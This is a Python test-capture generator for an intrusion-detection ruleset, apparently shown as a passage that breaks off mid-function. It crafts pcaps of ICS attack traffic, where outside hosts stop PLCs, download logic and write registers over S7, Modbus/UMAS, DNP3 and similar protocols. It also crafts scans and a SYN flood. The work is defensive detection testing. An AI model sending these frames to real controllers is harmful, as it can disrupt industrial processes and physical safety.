#!/usr/bin/python3
"""make-ruleset-captures.py OUTDIR [NAME...] - captures that prove the shipped ruleset.

Each capture is made by one function registered with @case("name"); it is
written to OUTDIR/name.pcap. Its docstring says what is inside. What each
capture must raise with rules/*.rules (the exact sids and how many alerts)
is the table tests/ruleset-cases.tsv, read by tests/integration/test_ruleset.py
and tools/gen-ruleset-doc.py; this script only makes packets.

The address plan matches the HOME_NET the tests use,
[10.0.0.0/8,172.16.0.0/12,192.168.0.0/16,fd00::/8]:
  inside   10.1.1.0/24 PLCs and HMI, 10.2.0.0/24 servers, 10.3.0.0/24 clients,
           fd00::/64 IPv6 hosts
  outside  203.0.113.0/24 attackers, 198.51.100.0/24 servers and reflectors,
           192.0.2.0/24 and 2001:db8:bad::/48 the IOC test entries of
           rules/lists (documentation ranges only, RFC 5737 / RFC 3849)

Captures are deterministic: fixed addresses, ports, sequence numbers, IP ids,
keys and timestamps (BASE_US plus fixed steps), no randomness; the pcap
writer is our own so that the same script always writes the same bytes.

Usage: make-ruleset-captures.py OUTDIR            writes every capture
       make-ruleset-captures.py OUTDIR NAME ...   writes only those
       make-ruleset-captures.py --list            names and one-line descriptions
"""
import calendar
import datetime
import os
import struct
import sys

import logging
logging.getLogger("scapy.runtime").setLevel(logging.ERROR)

from scapy.all import (DNS, DNSQR, DNSRR, ICMP, IP, IPv6, ICMPv6EchoRequest,  # noqa: E402
                       TCP, UDP, Ether)

BASE_US = calendar.timegm((2026, 3, 2, 8, 0, 0)) * 1000000   # 2026-03-02T08:00:00Z
STEP_US = 1000                                              # 1 ms between packets by default

# Address plan (see the module docstring).
PLC, PLC2, HMI = "10.1.1.10", "10.1.1.11", "10.1.1.100"
WEB, DNSSRV, FILESRV, VICTIM = "10.2.0.80", "10.2.0.53", "10.2.0.45", "10.2.0.50"
WS, WS2 = "10.3.0.15", "10.3.0.16"
ATT, ATT2 = "203.0.113.66", "203.0.113.77"
EXTSRV, EXTSRV2 = "198.51.100.200", "198.51.100.201"
IOC_C2, IOC_MALWARE, IOC_SCANNER, IOC_BOTNET6 = "192.0.2.66", "192.0.2.77", "192.0.2.200", "2001:db8:bad::5"
HOST6 = "fd00::10"
MAC_A, MAC_B = "02:00:00:00:00:01", "02:00:00:00:00:02"


# ------------------------------------------------------------------ writer

class Cap:
    """Packets of one capture with their times; written as classic pcap, Ethernet."""

    def __init__(self):
        self.records = []
        self.t = BASE_US

    def wait(self, seconds):
        self.t += int(round(seconds * 1000000))

    def add(self, l3, gap_us=STEP_US):
        frame = Ether(src=MAC_A, dst=MAC_B) / l3
        self.records.append((self.t, bytes(frame)))
        self.t += gap_us

    def write(self, path):
        with open(path, "wb") as f:
            f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 262144, 1))
            for t, data in self.records:
                f.write(struct.pack("<IIII", t // 1000000, t % 1000000, len(data), len(data)))
                f.write(data)


def ip_layer(src, dst, ttl=64):
    if ":" in src:
        return IPv6(src=src, dst=dst, hlim=ttl)
    return IP(src=src, dst=dst, ttl=ttl, id=1)


class Tcp:
    """One TCP connection between a client and a server, packet by packet."""

    def __init__(self, cap, cli, srv, cport, sport, gap_us=STEP_US):
        self.cap, self.cli, self.srv, self.cp, self.sp = cap, cli, srv, cport, sport
        self.cseq = 1000 + cport * 7 % 50000
        self.sseq = 900000 + sport * 13 % 50000
        self.gap = gap_us

    def _pkt(self, to_server, flags, data=b""):
        if to_server:
            seg = TCP(sport=self.cp, dport=self.sp, flags=flags, seq=self.cseq,
                      ack=self.sseq if "A" in flags else 0, window=64240)
            l3 = ip_layer(self.cli, self.srv) / seg
        else:
            seg = TCP(sport=self.sp, dport=self.cp, flags=flags, seq=self.sseq,
                      ack=self.cseq if "A" in flags else 0, window=64240)
            l3 = ip_layer(self.srv, self.cli) / seg
        if data:
            l3 = l3 / data
        self.cap.add(l3, self.gap)
        n = len(data) + (1 if ("S" in flags or "F" in flags) else 0)
        if to_server:
            self.cseq += n
        else:
            self.sseq += n

    def syn(self):
        self._pkt(True, "S")
        return self

    def open(self):
        self._pkt(True, "S")
        self._pkt(False, "SA")
        self._pkt(True, "A")
        return self

    def c(self, data):
        self._pkt(True, "PA", data)
        return self

    def s(self, data):
        self._pkt(False, "PA", data)
        return self

    def close(self):
        self._pkt(True, "FA")
        self._pkt(False, "FA")
        self._pkt(True, "A")
        return self

    def reset(self):
        self._pkt(True, "R")
        return self


def udp(cap, src, dst, sport, dport, payload, gap_us=STEP_US):
    cap.add(ip_layer(src, dst) / UDP(sport=sport, dport=dport) / payload, gap_us)


def tcp_session(cap, cli, srv, cport, sport, exchange, close=True):
    """Handshake, then ('c'|'s', bytes) messages, then a FIN exchange."""
    t = Tcp(cap, cli, srv, cport, sport).open()
    for who, data in exchange:
        (t.c if who == "c" else t.s)(data)
    if close:
        t.close()
    return t


CASES = {}


def case(name):
    def register(fn):
        CASES[name] = fn
        return fn
    return register


# ------------------------------------------------------------- ICS builders

def mbap(tid, pdu, unit=1):
    return struct.pack(">HHHB", tid, 0, len(pdu) + 1, unit) + pdu


def umas(tid, func, data=b"", session=0):
    return mbap(tid, bytes([0x5A, session, func]) + data, unit=0)


def crc_dnp3(data):
    crc = 0
    for b in data:
        crc ^= b
        for _ in range(8):
            crc = (crc >> 1) ^ 0xA6BC if crc & 1 else crc >> 1
    return struct.pack("<H", ~crc & 0xFFFF)


def dnp3(fc, objects=b"", seq=0, master=True, dst=10, src=1):
    """A DNP3 link frame carrying one application fragment (CRC every 16 bytes)."""
    ctrl = 0xC4 if master else 0x44
    user = bytes([0xC0 | (seq & 0x3F), 0xC0 | (seq & 0x0F), fc]) + objects
    head = b"\x05\x64" + bytes([5 + len(user), ctrl]) + struct.pack("<HH", dst, src)
    out = head + crc_dnp3(head)
    for i in range(0, len(user), 16):
        block = user[i:i + 16]
        out += block + crc_dnp3(block)
    return out


def iec104_i(ns, nr, type_id, cot, ioa, element, ca=1):
    asdu = bytes([type_id, 0x01, cot, 0x00]) + struct.pack("<H", ca) + struct.pack("<I", ioa)[:3] + element
    ctrl = struct.pack("<HH", (ns << 1) & 0xFFFF, (nr << 1) & 0xFFFF)
    return bytes([0x68, 4 + len(asdu)]) + ctrl + asdu


IEC104_STARTDT_ACT = bytes.fromhex("680407000000")
IEC104_STARTDT_CON = bytes.fromhex("68040b000000")


def tpkt(payload):
    return struct.pack(">BBH", 3, 0, 4 + len(payload)) + payload


COTP_CR = bytes.fromhex("11e00000000100c1020100c2020102c0010a")
COTP_CC = bytes.fromhex("11d00001000100c1020100c2020102c0010a")


def s7_job(pdu_ref, param, data=b""):
    head = struct.pack(">BBHHHH", 0x32, 0x01, 0, pdu_ref, len(param), len(data))
    return tpkt(b"\x02\xf0\x80" + head + param + data)


def s7_ack(pdu_ref, param):
    head = struct.pack(">BBHHHHBB", 0x32, 0x03, 0, pdu_ref, len(param), 0, 0, 0)
    return tpkt(b"\x02\xf0\x80" + head + param)


S7_SETUP = bytes.fromhex("f0000001000101e0")
S7_READ = bytes.fromhex("0401120a10020001000184000000")
S7_WRITE = bytes.fromhex("0501120a10020001000184000000")
S7_WRITE_DATA = bytes.fromhex("000400080000ff01")
S7_REQ_DOWNLOAD = bytes.fromhex("1a000100000000000009") + b"_0A00001P" + b"\x0d1000500000400"
S7_INSE = bytes.fromhex("2800000000000000fd000a0100") + b"0A00001P" + b"\x05_INSE"
S7_UPLOAD = bytes.fromhex("1d0000000000000009") + b"_0A00001P"
S7_STOP = bytes.fromhex("29000000000009") + b"P_PROGRAM"
S7_START = bytes.fromhex("2800000000000000fd000009") + b"P_PROGRAM"


def enip(cmd, data=b"", session=0x11223344):
    return struct.pack("<HHII8sI", cmd, len(data), session, 0, b"ictwtest", 0) + data


def enip_rr(cip):
    """SendRRData (unconnected) with one CIP request."""
    cpf = struct.pack("<IHH", 0, 10, 2) + struct.pack("<HH", 0, 0) + struct.pack("<HH", 0xB2, len(cip)) + cip
    return enip(0x6F, cpf)


def enip_unit(cip, conn=0x00350913, seq=1):
    """SendUnitData (connected) with one CIP request."""
    item = struct.pack("<H", seq) + cip
    cpf = (struct.pack("<IHH", 0, 0, 2) + struct.pack("<HHI", 0xA1, 4, conn) +
           struct.pack("<HH", 0xB1, len(item)) + item)
    return enip(0x70, cpf)


CIP_IDENTITY_PATH = bytes.fromhex("0220012401")         # path size 2 words: class 1, instance 1


def bvlc(npdu_apdu, func=0x0A):
    return struct.pack(">BBH", 0x81, func, 4 + len(npdu_apdu)) + npdu_apdu


BACNET_READ_DEVICE = bvlc(bytes.fromhex("010400050a0c0c023fffff194b"))
BACNET_WRITE_PROP = bvlc(bytes.fromhex("0104" "00050b0f" "0c00800001" "1955" "3e" "4442c80000" "3f" "4910"))
BACNET_REINIT = bvlc(bytes.fromhex("010400050c140900"))


def opcua(kind, body):
    return kind + struct.pack("<I", 8 + len(body)) + body


def opcua_hello(url=b"opc.tcp://10.1.1.10:4840"):
    return opcua(b"HELF", struct.pack("<IIIII", 0, 65536, 65536, 0, 0) + struct.pack("<I", len(url)) + url)


def opcua_msg(seq, node_id, body=b""):
    return opcua(b"MSGF", struct.pack("<IIII", 1, 1, seq, seq) + node_id + bytes(8) + body)


def dcerpc_pnio(opnum, seq, big_endian=False):
    """A connectionless DCE/RPC request to the PROFINET IO device interface."""
    if big_endian:
        drep = b"\x00\x00\x00"
        iface = bytes.fromhex("dea000016c9711d1827100a02442df7d")
        obj = bytes.fromhex("dea000006c9711d1827100010101014d")
        act = bytes.fromhex("35fda900358a12128004001c060b26ed")
        tail = struct.pack(">IIIHHHHHBB", 0, 1, seq, opnum, 0xFFFF, 0xFFFF, 0, 0, 0, 0)
    else:
        drep = b"\x10\x00\x00"
        iface = bytes.fromhex("0100a0de976cd111827100a02442df7d")
        obj = bytes.fromhex("0000a0de976cd111827100010003015a")
        act = bytes.fromhex("dbabbaec1d005443b2500b01630abafd")
        tail = struct.pack("<IIIHHHHHBB", 0, 1, seq, opnum, 0xFFFF, 0xFFFF, 0, 0, 0, 0)
    return b"\x04\x00\x20\x00" + drep + b"\x00" + obj + iface + act + tail


def fins(sid, cmd, params=b""):
    return bytes([0x80, 0x00, 0x02, 0x00, 0x01, 0x00, 0x00, 0x02, 0x00, sid]) + cmd + params


def crc_ccitt(data):
    crc = 0xFFFF
    for b in data:
        crc ^= b << 8
        for _ in range(8):
            crc = ((crc << 1) ^ 0x1021) & 0xFFFF if crc & 0x8000 else (crc << 1) & 0xFFFF
    return struct.pack(">H", crc)


def c37118_cmd(cmd, idcode=241):
    frame = struct.pack(">HHHII", 0xAA41, 18, idcode, 1772438400, 0) + struct.pack(">H", cmd)
    return frame + crc_ccitt(frame)


def ads(cmd, data, invoke):
    ams = (bytes.fromhex("050d75600101") + struct.pack("<H", 851) + bytes.fromhex("c0a801630101") +
           struct.pack("<H", 32905) + struct.pack("<HHIII", cmd, 0x0004, len(data), 0, invoke) + data)
    return struct.pack("<HI", 0, len(ams)) + ams


# ------------------------------------------------------------------ ICS cases

@case("ics-modbus-ext-write")
def cap_modbus_ext_write(cap):
    """An outside host reads then writes a single register and multiple registers of a HOME_NET PLC."""
    tcp_session(cap, ATT, PLC, 40001, 502, [
        ("c", mbap(1, bytes.fromhex("0300000002"))), ("s", mbap(1, bytes.fromhex("030400010002"))),
        ("c", mbap(2, bytes.fromhex("0600010005"))), ("s", mbap(2, bytes.fromhex("0600010005"))),
        ("c", mbap(3, bytes.fromhex("1000010002040001000a"))), ("s", mbap(3, bytes.fromhex("1000010002"))),
    ])


@case("ics-modbus-ext-read")
def cap_modbus_ext_read(cap):
    """An outside host only reads holding registers of a HOME_NET PLC (no write)."""
    tcp_session(cap, ATT, PLC, 40002, 502, [
        ("c", mbap(1, bytes.fromhex("0300000002"))), ("s", mbap(1, bytes.fromhex("030400010002"))),
        ("c", mbap(2, bytes.fromhex("0300100001"))), ("s", mbap(2, bytes.fromhex("03020007"))),
    ])


@case("ics-modbus-int")
def cap_modbus_int(cap):
    """The HMI polls a PLC inside HOME_NET: reads and a register write (normal operation)."""
    ex = []
    for i in range(1, 6):
        ex += [("c", mbap(i, bytes.fromhex("0300000002"))), ("s", mbap(i, bytes.fromhex("030400010002")))]
    ex += [("c", mbap(9, bytes.fromhex("0600010005"))), ("s", mbap(9, bytes.fromhex("0600010005")))]
    tcp_session(cap, HMI, PLC, 40003, 502, ex)


@case("ics-modbus-diag")
def cap_modbus_diag(cap):
    """Modbus diagnostics 'restart communications' from outside, then 'force listen-only' from the HMI."""
    tcp_session(cap, ATT, PLC, 40004, 502, [
        ("c", mbap(1, bytes.fromhex("0800010000"))), ("s", mbap(1, bytes.fromhex("0800010000")))])
    tcp_session(cap, HMI, PLC2, 40005, 502, [
        ("c", mbap(1, bytes.fromhex("0800040000")))])


@case("ics-modbus-umas")
def cap_modbus_umas(cap):
    """An outside engineering station talks UMAS (Modbus FC 90) to a PLC: identification, reservation,
    strategy upload, variable write, strategy download (3 blocks) and STOP."""
    ex = [("c", mbap(1, bytes.fromhex("2b0e0100"))), ("s", mbap(1, bytes.fromhex("2b0e0181000000")))]
    steps = [(0x02, b""), (0x10, b"\x00\x0fUSER-TEST01"), (0x33, b"\x00\x01\xfb\x00"), (0x34, b"\x00\x01\x01\x00"),
             (0x35, b"\x00\x01"), (0x23, b"\x01\x00\x00\x00\x01"), (0x30, b"\x00\x01"),
             (0x31, b"\x00\x01\x01"), (0x31, b"\x00\x01\x02"), (0x32, b"\x00\x01"), (0x41, b"\xff\x00")]
    for i, (fn, data) in enumerate(steps, start=2):
        ex += [("c", umas(i, fn, data, session=1)), ("s", umas(i, 0xFE, b""))]
    tcp_session(cap, ATT, PLC, 40006, 502, ex)


@case("ics-modbus-umas-int")
def cap_modbus_umas_int(cap):
    """An engineering station inside HOME_NET downloads a strategy (2 blocks) and stops the PLC over UMAS."""
    ex = []
    for i, fn in enumerate([0x30, 0x31, 0x31, 0x32, 0x41], start=1):
        ex += [("c", umas(i, fn, b"\x00\x01", session=1)), ("s", umas(i, 0xFE))]
    tcp_session(cap, HMI, PLC, 40007, 502, ex)


@case("ics-dnp3-ext")
def cap_dnp3_ext(cap):
    """An outside DNP3 master sends read, write, direct operate, disable unsolicited, cold restart,
    warm restart and stop application to a HOME_NET outstation."""
    ex = []
    reqs = [(0x01, bytes.fromhex("3c020628")), (0x02, bytes.fromhex("50010700070100")),
            (0x05, bytes.fromhex("0c0128010000000301000000000000000000")), (0x15, bytes.fromhex("3c020628")),
            (0x0D, b""), (0x0E, b""), (0x12, b"")]
    for seq, (fc, obj) in enumerate(reqs):
        ex += [("c", dnp3(fc, obj, seq)), ("s", dnp3(0x81, b"\x00\x00", seq, master=False, dst=1, src=10))]
    tcp_session(cap, ATT, PLC, 40010, 20000, ex)


@case("ics-dnp3-int")
def cap_dnp3_int(cap):
    """The HOME_NET master reads, then cold-restarts and stops the application of an outstation."""
    ex = []
    for seq, fc in enumerate([0x01, 0x0D, 0x12]):
        ex += [("c", dnp3(fc, bytes.fromhex("3c020628") if fc == 1 else b"", seq)),
               ("s", dnp3(0x81, b"\x00\x00", seq, master=False, dst=1, src=10))]
    tcp_session(cap, HMI, PLC, 40011, 20000, ex)


@case("ics-iec104-ext")
def cap_iec104_ext(cap):
    """An outside station opens IEC-104 (STARTDT), runs a general interrogation, then sends a single
    command, a double command, a set-point and a reset-process command (all 'activation')."""
    asdus = [(100, 0, b"\x14"), (45, 1001, b"\x01"), (46, 1002, b"\x02"), (48, 2001, b"\x64\x00\x00"),
             (105, 0, b"\x01")]
    ex = [("c", IEC104_STARTDT_ACT), ("s", IEC104_STARTDT_CON)]
    for ns, (tid, ioa, el) in enumerate(asdus):
        ex += [("c", iec104_i(ns, ns, tid, 6, ioa, el)), ("s", iec104_i(ns, ns + 1, tid, 7, ioa, el))]
    tcp_session(cap, ATT, PLC, 40020, 2404, ex)


@case("ics-iec104-int")
def cap_iec104_int(cap):
    """The HOME_NET control centre sends single and double commands to a station (normal operation)."""
    ex = [("c", IEC104_STARTDT_ACT), ("s", IEC104_STARTDT_CON)]
    for ns, tid in enumerate([45, 46]):
        ex += [("c", iec104_i(ns, ns, tid, 6, 1001, b"\x01")), ("s", iec104_i(ns, ns + 1, tid, 7, 1001, b"\x01"))]
    tcp_session(cap, HMI, PLC, 40021, 2404, ex)


@case("ics-s7-ext")
def cap_s7_ext(cap):
    """An outside host opens S7comm (COTP CR, setup communication), reads and writes a variable, requests a
    download, inserts the block (_INSE), starts an upload, stops and restarts the PLC."""
    jobs = [(S7_SETUP, b""), (S7_READ, b""), (S7_WRITE, S7_WRITE_DATA), (S7_REQ_DOWNLOAD, b""),
            (S7_INSE, b""), (S7_UPLOAD, b""), (S7_STOP, b""), (S7_START, b"")]
    ex = [("c", tpkt(COTP_CR)), ("s", tpkt(COTP_CC))]
    for ref, (param, data) in enumerate(jobs, start=1):
        ex += [("c", s7_job(ref, param, data)), ("s", s7_ack(ref, param[:1]))]
    tcp_session(cap, ATT, PLC, 40030, 102, ex)


@case("ics-s7-int")
def cap_s7_int(cap):
    """An engineering station inside HOME_NET reads a variable, downloads a block and stops the PLC."""
    jobs = [S7_SETUP, S7_READ, S7_REQ_DOWNLOAD, S7_STOP]
    ex = [("c", tpkt(COTP_CR)), ("s", tpkt(COTP_CC))]
    for ref, param in enumerate(jobs, start=1):
        ex += [("c", s7_job(ref, param)), ("s", s7_ack(ref, param[:1]))]
    tcp_session(cap, HMI, PLC, 40031, 102, ex)


@case("ics-enip-ext")
def cap_enip_ext(cap):
    """An outside host registers an EtherNet/IP session and sends CIP Stop and Reset (unconnected) and a
    Logix Write Tag (connected); before that it probes with a UDP ListIdentity."""
    udp(cap, ATT, PLC, 40040, 44818, enip(0x63, session=0))
    write = bytes.fromhex("4d0491085370656564536574c3000100e803")   # Write Tag "SpeedSet" INT 1000
    tcp_session(cap, ATT, PLC, 40041, 44818, [
        ("c", enip(0x65, b"\x01\x00\x00\x00", session=0)), ("s", enip(0x65, b"\x01\x00\x00\x00")),
        ("c", enip_rr(b"\x07" + CIP_IDENTITY_PATH)), ("s", enip_rr(b"\x87\x00\x00\x00")),
        ("c", enip_rr(b"\x05" + CIP_IDENTITY_PATH + b"\x00")), ("s", enip_rr(b"\x85\x00\x00\x00")),
        ("c", enip_unit(write)), ("s", enip_unit(b"\xcd\x00\x00\x00")),
    ])


@case("ics-enip-int")
def cap_enip_int(cap):
    """The HMI stops a controller inside HOME_NET with the CIP Stop service."""
    tcp_session(cap, HMI, PLC, 40042, 44818, [
        ("c", enip(0x65, b"\x01\x00\x00\x00", session=0)), ("s", enip(0x65, b"\x01\x00\x00\x00")),
        ("c", enip_rr(b"\x07" + CIP_IDENTITY_PATH)), ("s", enip_rr(b"\x87\x00\x00\x00"))])


@case("ics-mms-ext")
def cap_mms_ext(cap):
    """An outside client opens an IEC 61850 MMS association (COTP, session CONNECT with MMS initiate) and
    writes a data attribute (confirmed-request write)."""
    connect = bytes.fromhex(
        "0d9e0506130100160102140200023302000134020001c188318185a003800101a27e81"
        "0c020101a2040e0c000c0000003006020451010008a80e8001008101058201060304")
    write = bytes.fromhex("0100010061303029020103a024a0220203040a38a51b" "a0171a0a4945443150524f54"
                          "1a094d4d585531242e766181000181010a")
    tcp_session(cap, ATT, PLC, 40050, 102, [
        ("c", tpkt(COTP_CR)), ("s", tpkt(COTP_CC)),
        ("c", tpkt(b"\x02\xf0\x80" + connect)), ("s", tpkt(bytes.fromhex("02f0800e0505061301001601"))),
        ("c", tpkt(b"\x02\xf0\x80" + write)), ("s", tpkt(bytes.fromhex("02f080010001006109300702010" "3a002a100"))),
    ])


@case("ics-bacnet-ext")
def cap_bacnet_ext(cap):
    """An outside host probes a BACnet controller (readProperty of the device object), writes a property
    and reinitialises the device."""
    udp(cap, ATT, PLC, 47808, 47808, BACNET_READ_DEVICE)
    udp(cap, PLC, ATT, 47808, 47808, bvlc(bytes.fromhex("0100300a0c0c0c02000001194b3e0c0200000"
                                                        "13f")))
    udp(cap, ATT, PLC, 47808, 47808, BACNET_WRITE_PROP)
    udp(cap, ATT, PLC, 47808, 47808, BACNET_REINIT)


@case("ics-opcua-ext")
def cap_opcua_ext(cap):
    """An outside OPC UA client says Hello, opens a secure channel (None), writes a value and calls a method."""
    opn = opcua(b"OPNF", struct.pack("<I", 0) + struct.pack("<I", 47) +
                b"http://opcfoundation.org/UA/SecurityPolicy#None" + b"\xff\xff\xff\xff" * 2 +
                struct.pack("<II", 1, 1) + bytes.fromhex("0100be01") + bytes(20))
    tcp_session(cap, ATT, PLC, 40060, 4840, [
        ("c", opcua_hello()), ("s", opcua(b"ACKF", struct.pack("<IIIII", 0, 65536, 65536, 0, 0))),
        ("c", opn), ("s", opcua(b"OPNF", struct.pack("<II", 1, 47) + bytes(40))),
        ("c", opcua_msg(2, bytes.fromhex("0100a102"), bytes.fromhex("010000000102000600000000"))),
        ("s", opcua_msg(2, bytes.fromhex("0100a402"))),
        ("c", opcua_msg(3, bytes.fromhex("0100c802"), bytes.fromhex("01000000010a000102"))),
        ("s", opcua_msg(3, bytes.fromhex("0100cb02"))),
    ])


@case("ics-profinet-ext")
def cap_profinet_ext(cap):
    """An outside host sends PROFINET IO CM requests (DCE/RPC): Connect (little endian) and Write (big
    endian)."""
    udp(cap, ATT, PLC, 40070, 34964, dcerpc_pnio(0, 1) + bytes(40))
    udp(cap, ATT, PLC, 40070, 34964, dcerpc_pnio(3, 2, big_endian=True) + bytes(40))


@case("ics-fins-ext")
def cap_fins_ext(cap):
    """An outside host reads memory, writes memory, switches the PLC to RUN and to STOP over FINS/UDP,
    and opens a FINS/TCP session."""
    for sid, cmd, par in [(1, b"\x01\x01", bytes.fromhex("82000000000a")), (2, b"\x01\x02", bytes.fromhex("8200000000010001")),
                          (3, b"\x04\x01", bytes.fromhex("ffff")), (4, b"\x04\x02", b"")]:
        udp(cap, ATT, PLC, 40080, 9600, fins(sid, cmd, par))
    tcp_session(cap, ATT, PLC, 40081, 9600, [
        ("c", b"FINS" + struct.pack(">IIII", 12, 0, 0, 0)), ("s", b"FINS" + struct.pack(">IIIII", 16, 1, 0, 0xfb, 0xc8))])


@case("ics-fins-int")
def cap_fins_int(cap):
    """The HMI stops a PLC inside HOME_NET with FINS/UDP."""
    udp(cap, HMI, PLC, 40082, 9600, fins(9, b"\x04\x02"))


@case("ics-misc-ext")
def cap_misc_ext(cap):
    """Outside hosts reach CIP implicit I/O, HART-IP (UDP and TCP), KNXnet/IP, CODESYS, Niagara Fox and
    MELSEC SLMP services of HOME_NET devices."""
    udp(cap, ATT, PLC, 2222, 2222, bytes.fromhex("020002800800787b3a00e8cb5e04b1000c000300fdffffffffffffff0000"))
    udp(cap, ATT, PLC, 40090, 5094, bytes.fromhex("01000000000100 0d0100007530".replace(" ", "")))
    tcp_session(cap, ATT, PLC2, 40091, 5094, [("c", bytes.fromhex("010000000001000d0100007530")),
                                              ("s", bytes.fromhex("010100000001000d0100007530"))])
    udp(cap, ATT, PLC, 40092, 3671, bytes.fromhex("06100205001a0801cb00710da0570801cb00710da05704040200"))
    tcp_session(cap, ATT, PLC, 40093, 2455, [("c", bytes.fromhex("bbbb0000000100000001000000"))])
    tcp_session(cap, ATT, PLC, 40094, 1911, [("c", b"fox a 1 -1 fox hello\n{\nfox.version=s:1.0\n};;\n")])
    tcp_session(cap, ATT, PLC, 40095, 5007, [("c", bytes.fromhex("500000ffff03000c00100001040000640000a80100"))])


@case("ics-ads-ext")
def cap_ads_ext(cap):
    """An outside host reads the state of a TwinCAT PLC over ADS, writes a variable and sends WriteControl."""
    tcp_session(cap, ATT, PLC, 40100, 48898, [
        ("c", ads(4, b"", 1)), ("s", ads(4, bytes(8), 1)),
        ("c", ads(3, struct.pack("<III", 0x4020, 0, 2) + b"\x01\x00", 2)),
        ("c", ads(5, struct.pack("<HHI", 6, 0, 0), 3))])


@case("ics-c37118-ext")
def cap_c37118_ext(cap):
    """An outside host asks a PMU for its configuration, then turns its data transmission off (C37.118)."""
    tcp_session(cap, ATT, PLC, 40110, 4712, [("c", c37118_cmd(5)), ("c", c37118_cmd(1))])


@case("ics-atg-ext")
def cap_atg_ext(cap):
    """An outside host queries a tank gauge inventory (I20100) and changes a tank label (S60201)."""
    tcp_session(cap, ATT, PLC, 40120, 10001, [
        ("c", b"\x01I20100\r\n"), ("s", b"\x01\r\nI20100\r\nMAR 2, 2026 8:00 AM\r\n\r\nTANK PRODUCT\r\n\x03"),
        ("c", b"\x01S60201UNLEADED-X\r\n")])


@case("ics-portscan")
def cap_ics_portscan(cap):
    """An outside host sends SYNs to six ICS service ports of one PLC (S7, Modbus, IEC-104, DNP3, ENIP,
    OPC UA)."""
    for i, port in enumerate([102, 502, 2404, 20000, 44818, 4840]):
        Tcp(cap, ATT, PLC, 41000 + i, port).syn()


@case("ics-hostsweep")
def cap_ics_hostsweep(cap):
    """An outside host sends SYNs to Modbus port 502 of eight HOME_NET hosts."""
    for i in range(8):
        Tcp(cap, ATT, "10.1.1.%d" % (20 + i), 41100 + i, 502).syn()


@case("ics-udpsweep")
def cap_ics_udpsweep(cap):
    """An outside host sends a short UDP probe to BACnet port 47808 of eight HOME_NET hosts."""
    for i in range(8):
        udp(cap, ATT, "10.1.1.%d" % (20 + i), 41200, 47808, b"probe")


# --------------------------------------------------------------- scan cases

@case("scan-syn")
def cap_scan_syn(cap):
    """An outside host sends SYNs to 25 distinct ports (1000-1024) of one HOME_NET server."""
    for i in range(25):
        Tcp(cap, ATT, WEB, 42000 + i, 1000 + i).syn()


@case("scan-syn-below")
def cap_scan_syn_below(cap):
    """An outside host sends SYNs to 15 distinct ports of one HOME_NET server (under the scan threshold)."""
    for i in range(15):
        Tcp(cap, ATT, WEB, 42100 + i, 1000 + i).syn()


@case("scan-outbound")
def cap_scan_outbound(cap):
    """A HOME_NET workstation sends SYNs to 55 distinct ports of one outside host."""
    for i in range(55):
        Tcp(cap, WS, EXTSRV, 42200 + i, 2000 + i).syn()


@case("scan-stealth")
def cap_scan_stealth(cap):
    """An outside host sends six NULL, six Xmas and six FIN probes to ports of a HOME_NET server."""
    for flags, base in [("", 3000), ("FPU", 3100), ("F", 3200)]:
        for i in range(6):
            cap.add(IP(src=ATT, dst=WEB, id=1) / TCP(sport=42300, dport=base + i, flags=flags, seq=77))


@case("scan-hostsweep")
def cap_scan_hostsweep(cap):
    """An outside host sends SYNs to port 80 of 35 HOME_NET addresses."""
    for i in range(35):
        Tcp(cap, ATT, "10.2.1.%d" % (10 + i), 42400 + i, 80).syn()


@case("scan-internal-sweep")
def cap_scan_internal_sweep(cap):
    """A HOME_NET workstation sends SYNs to WinRM port 5985 of 25 other HOME_NET hosts."""
    for i in range(25):
        Tcp(cap, WS, "10.3.1.%d" % (10 + i), 42500 + i, 5985).syn()


@case("scan-icmp-sweep")
def cap_scan_icmp_sweep(cap):
    """An outside host pings 25 HOME_NET addresses (IPv4 echo requests)."""
    for i in range(25):
        cap.add(IP(src=ATT, dst="10.2.2.%d" % (10 + i), id=1) / ICMP(type=8, id=7, seq=i) / (b"\x00" * 32))


@case("scan-icmp6-sweep")
def cap_scan_icmp6_sweep(cap):
    """An outside host pings 25 HOME_NET IPv6 addresses (ICMPv6 echo requests)."""
    for i in range(25):
        cap.add(IPv6(src="2001:db8:77::1", dst="fd00::%x" % (0x100 + i)) / ICMPv6EchoRequest(id=7, seq=i))


@case("scan-icmp-timestamp")
def cap_scan_icmp_timestamp(cap):
    """An outside host sends two ICMP timestamp requests to a HOME_NET server."""
    for i in range(2):
        cap.add(IP(src=ATT, dst=WEB, id=1) / ICMP(type=13, id=9, seq=i, ts_ori=28800000 + i, ts_rx=0, ts_tx=0))


@case("scan-ping-few")
def cap_scan_ping_few(cap):
    """A HOME_NET workstation pings five hosts (an administrator checking reachability)."""
    for i in range(5):
        cap.add(IP(src=WS, dst="10.2.2.%d" % (10 + i), id=1) / ICMP(type=8, id=8, seq=i) / (b"\x00" * 32))


@case("scan-udp")
def cap_scan_udp(cap):
    """An outside host sends an empty UDP datagram to 25 distinct ports (40000-40024) of a HOME_NET server."""
    for i in range(25):
        udp(cap, ATT, WEB, 42600, 40000 + i, b"")


@case("scan-udp-replies")
def cap_scan_udp_replies(cap):
    """A HOME_NET client asks an outside resolver 25 questions from 25 source ports and gets the answers
    (replies to many ports of one host, which is not a scan)."""
    for i in range(25):
        q = DNS(id=100 + i, rd=1, qd=DNSQR(qname="host%d.example.com" % i, qtype="A"))
        udp(cap, WS, EXTSRV, 50000 + i, 53, q)
        r = DNS(id=100 + i, qr=1, rd=1, ra=1, qd=DNSQR(qname="host%d.example.com" % i, qtype="A"),
                an=DNSRR(rrname="host%d.example.com" % i, type="A", ttl=300, rdata="198.51.100.%d" % (10 + i)))
        udp(cap, EXTSRV, WS, 53, 50000 + i, r)


@case("scan-http-scanner")
def cap_scan_http_scanner(cap):
    """An outside host sends Nikto requests (Nikto in the User-Agent) to a HOME_NET web server."""
    for i in range(2):
        tcp_session(cap, ATT, WEB, 42700 + i, 80, [
            ("c", b"GET /admin/ HTTP/1.1\r\nHost: www.example.com\r\n"
                  b"User-Agent: Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:map_codes)\r\n\r\n"),
            ("s", b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")])


# ----------------------------------------------------------------- DoS cases

@case("dos-synflood")
def cap_dos_synflood(cap):
    """One outside host sends 1100 SYNs to port 80 of a HOME_NET server within 2.2 seconds."""
    for i in range(1100):
        cap.add(IP(src=ATT, dst=WEB, id=1) / TCP(sport=10000 + i, dport=80, flags="S", seq=i), 2000)


@case("dos-synflood-distributed")
def cap_dos_synflood_distributed(cap):
